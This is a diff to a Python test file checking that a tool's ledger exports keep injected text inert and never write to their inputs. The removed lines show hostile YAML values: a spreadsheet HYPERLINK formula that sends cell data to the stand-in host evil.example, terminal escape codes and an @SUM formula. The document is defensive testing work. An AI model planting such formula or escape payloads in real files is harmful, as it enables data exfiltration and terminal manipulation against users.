@@ -49,16 +49,19 @@ def test_stored_fixtures_are_what_make_py_builds(tmp_path):
         assert _content(make_it(tmp_path / name)) == _content(HOSTILE / name), name
 
 
-@pytest.mark.parametrize("case", MANIFEST, ids=[c["file"] for c in MANIFEST])
+@pytest.mark.parametrize("case", MANIFEST, ids=[c.get("id", c["file"]) for c in MANIFEST])
 def test_hostile_fixture_gives_its_message(case, built, tmp_path):
     path = built.get(case["file"]) or HOSTILE / case["file"]
     out = tmp_path / "out"
     argv = [a.replace("{file}", str(path)).replace("{out}", str(out)) for a in case["argv"]]
+    before = path.read_bytes()
     code, output = invoke(*argv)
     assert code == case["exit"], output
     assert case["message"] in output, output
     assert "Traceback" not in output
-    assert not out.exists() or not any(out.iterdir())
+    assert path.read_bytes() == before  # an input is never written
+    if code == 2:
+        assert not out.exists() or not any(out.iterdir())
 
 
 # ---- the bounded reader, directly ------------------------------------------------------------
@@ -191,15 +194,7 @@ def test_re2_runs_the_pattern_re_cannot_finish():
 # ---- every writer: ledger and tally outputs carry injected text as text ------------------------
 
 def _hostile_evidence(tmp_path: Path) -> Path:
-    src = HOSTILE.parent.parent / "examples" / "bureau" / "evidence" / "gm-huancui-food.yaml"
-    text = src.read_text(encoding="utf-8")
-    text = text.replace("description: 包装间、分割间、产品整理间等人员较多生产场所的空调系统采用氨直接蒸发制冷系统",
-                        'description: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"点击查看\\")"')
-    text = text.replace("onsite_action: 停用氨直接蒸发空调", 'onsite_action: "停用\\e[31m\\x07空调"')
-    text = text.replace("measures: 改用间接制冷空调系统", 'measures: "@SUM(1+1)"')
-    path = tmp_path / "food.yaml"
-    path.write_text(text, encoding="utf-8")
-    return path
+    return HOSTILE / "evidence-formula.yaml"
 
 
 def test_ledger_export_writes_injected_text_as_text(tmp_path):
